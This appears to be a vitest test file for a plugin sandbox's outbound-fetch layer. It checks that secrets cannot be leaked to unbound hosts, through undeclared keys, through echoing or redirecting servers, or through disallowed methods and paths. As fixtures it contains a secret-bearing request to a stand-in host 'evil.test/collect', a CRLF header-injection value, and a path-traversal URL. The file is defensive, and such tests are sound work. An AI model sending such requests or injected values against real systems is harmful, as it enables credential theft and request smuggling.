// Hostile: a plugin tries to get a secret out through ctx.fetch — toward a host the secret is not
// bound to, with a key it never declared, or via a bound server that echoes what it received.
// The refusal happens before any connection (AIRLOCK_FETCH_SECRET_NOT_BOUND); an injected value
// reaches only the bound server and appears nowhere in what the plugin gets back or the audit.
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  containmentProblems,
  everything,
  fetchHarness,
  startServer,
  type TestServer,
} from "../../host/src/isolation/egress/test-support.ts";

const SECRET = "sk-live-4b1d7e0c9a2f58e3";
const OTHER = "tok-other-90aa17e2c4";
let bound: TestServer;
let evil: TestServer;
let health: TestServer;

beforeAll(async () => {
  // An echo server: it reflects the Authorization header into a header, the URL and the body.
  bound = await startServer((req, res) => {
    const auth = String(req.headers.authorization ?? "");
    if (req.url?.startsWith("/quiet") === true || req.url?.startsWith("/landed") === true) {
      res.end("quiet"); // answers without reflecting anything
      return;
    }
    if (req.url === "/b64") {
      res.end(`seen ${Buffer.from(auth).toString("base64")}`);
      return;
    }
    if (req.url === "/bounce") {
      res.writeHead(302, { location: `/landed?token=${encodeURIComponent(auth)}` });
      res.end();
      return;
    }
    res.writeHead(200, { "x-echo": auth, "content-type": "application/json" });
    res.end(JSON.stringify({ youSent: auth, url: req.url }));
  });
  evil = await startServer((_req, res) => res.end("thanks"));
  health = await startServer((_req, res) => res.end("ok"));
});
afterAll(async () => {
  await bound.close();
  await evil.close();
  await health.close();
});

function harness() {
  return fetchHarness({
    health,
    egress: [
      { host: "api.test", schemes: ["http"], ports: [bound.port], secrets: ["api_key"] },
      { host: "evil.test", schemes: ["http"], ports: [evil.port] },
    ],
    table: { "api.test": "127.0.0.1", "evil.test": "127.0.0.1" },
    allowPrivate: ["127.0.0.1"],
    secrets: ["api_key"],
    values: { api_key: SECRET, other_key: OTHER },
  });
}

// Every test here ends contained: each harness it made still serves an allowed request and no
// secret value appears in any request's output or audit entry (see containmentProblems).
afterEach(async () => {
  expect(await containmentProblems()).toEqual([]);
});

describe("hostile egress: secrets", () => {
  it("refuses to inject a secret toward a host it is not bound to, before connecting", async () => {
    const h = harness();
    const before = evil.connections();
    const err = await h.refusal(`http://evil.test:${evil.port}/collect`, {
      headers: { authorization: { $secretRef: "api_key" } },
    });
    expect(err.code).toBe("AIRLOCK_FETCH_SECRET_NOT_BOUND");
    expect(err.details).toMatchObject({ secret: "api_key", host: "evil.test", reason: "unbound" });
    expect(evil.connections()).toBe(before);
    expect(h.sink.entries[0]).toMatchObject({ allowed: false, error: "AIRLOCK_FETCH_SECRET_NOT_BOUND" });
    expect(await h.healthy()).toBe(true);
    expect(h.leakFree(err)).toBe(true);
  });

  it("refuses a secret the tool does not declare, even toward a bound host", async () => {
    const h = harness();
    const before = bound.connections();
    const err = await h.refusal(`http://api.test:${bound.port}/`, {
      headers: { "x-key": { $secretRef: "other_key" } },
    });
    expect(err.code).toBe("AIRLOCK_FETCH_SECRET_NOT_BOUND");
    expect(err.details).toMatchObject({ reason: "undeclared" });
    expect(bound.connections()).toBe(before);
    expect(h.leakFree(err)).toBe(true);
  });

  it.each([
    [{ $secretRef: "API KEY" }],
    [{ $secretRef: "api_key", extra: 1 }],
    [{ $secretRef: "api_key", prefix: "Bearer \r\nX-Evil: 1" }],
    [["api_key"]],
    [42],
  ])("refuses a malformed secret reference %j with AIRLOCK_FETCH_BAD_REQUEST", async (value) => {
    const h = harness();
    const err = await h.refusal(`http://api.test:${bound.port}/`, { headers: { authorization: value } });
    expect(err.code).toBe("AIRLOCK_FETCH_BAD_REQUEST");
    expect(h.leakFree(err)).toBe(true);
  });

  it("delivers a bound secret to its host and refuses the response that echoes it with AIRLOCK_FETCH_SECRET_ECHOED", async () => {
    const h = harness();
    const err = await h.refusal(`http://api.test:${bound.port}/echo`, {
      headers: { authorization: { $secretRef: "api_key", prefix: "Bearer " } },
    });
    expect(bound.seen.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(err.code).toBe("AIRLOCK_FETCH_SECRET_ECHOED");
    expect(err.details).toMatchObject({ host: "api.test", where: "headers" });
    expect(everything(err, h.sink.entries)).not.toContain(SECRET);
    expect(h.sink.entries).toEqual([
      expect.objectContaining({ allowed: false, error: "AIRLOCK_FETCH_SECRET_ECHOED" }),
    ]);
    expect(await h.healthy()).toBe(true);
  });

  it("refuses a response echoing the secret in base64 in its body", async () => {
    const h = harness();
    const err = await h.refusal(`http://api.test:${bound.port}/b64`, {
      headers: { authorization: { $secretRef: "api_key" } },
    });
    expect(err.code).toBe("AIRLOCK_FETCH_SECRET_ECHOED");
    expect(err.details).toMatchObject({ where: "body" });
    expect(everything(err)).not.toContain(Buffer.from(SECRET).toString("base64"));
    expect(await h.healthy()).toBe(true);
  });

  it("binds a secret to methods and path prefixes: other methods and paths get AIRLOCK_FETCH_SECRET_NOT_BOUND", async () => {
    const h = fetchHarness({
      health,
      egress: [
        {
          host: "api.test",
          schemes: ["http"],
          ports: [bound.port],
          secrets: ["api_key"],
          secretMethods: ["GET"],
          secretPaths: ["/quiet/v1"],
        },
      ],
      table: { "api.test": "127.0.0.1" },
      allowPrivate: ["127.0.0.1"],
      secrets: ["api_key"],
      values: { api_key: SECRET },
    });
    const auth = { authorization: { $secretRef: "api_key" } };
    const ok = await h.request(`http://api.test:${bound.port}/quiet/v1/items`, { headers: auth });
    expect(ok.status).toBe(200);
    expect(bound.seen.at(-1)?.headers.authorization).toBe(SECRET);
    const before = bound.connections();
    for (const [url, method] of [
      [`http://api.test:${bound.port}/quiet/v1/items`, "POST"],
      [`http://api.test:${bound.port}/quiet/v2`, "GET"],
      [`http://api.test:${bound.port}/quiet/v1x`, "GET"],
      [`http://api.test:${bound.port}/quiet/v1/../../admin`, "GET"],
    ] as const) {
      const err = await h.refusal(url, { method, headers: auth });
      expect([err.code, err.details?.reason]).toEqual(["AIRLOCK_FETCH_SECRET_NOT_BOUND", "method_or_path"]);
    }
    expect(bound.connections()).toBe(before);
    expect(h.leakFree()).toBe(true);
  });

  it("scrubs a secret a bound server reflects into a redirect URL", async () => {
    const h = harness();
    const res = await h.request(`http://api.test:${bound.port}/bounce`, {
      headers: { authorization: { $secretRef: "api_key" } },
    });
    expect(res.redirected).toBe(true);
    expect(res.url).toContain("/landed?token=");
    expect(everything(res, h.sink.entries)).not.toContain(SECRET);
    expect(res.url).toContain("[airlock:redacted]");
  });

  it("refuses a declared, bound secret the operator has not set with AIRLOCK_FETCH_SECRET_NOT_SET", async () => {
    const h = fetchHarness({
      health,
      egress: [{ host: "api.test", schemes: ["http"], ports: [bound.port], secrets: ["api_key"] }],
      table: { "api.test": "127.0.0.1" },
      allowPrivate: ["127.0.0.1"],
      secrets: ["api_key"],
      values: {},
    });
    const before = bound.connections();
    const err = await h.refusal(`http://api.test:${bound.port}/`, {
      headers: { authorization: { $secretRef: "api_key" } },
    });
    expect(err.code).toBe("AIRLOCK_FETCH_SECRET_NOT_SET");
    expect(bound.connections()).toBe(before);
    expect(await h.healthy()).toBe(true);
  });
});
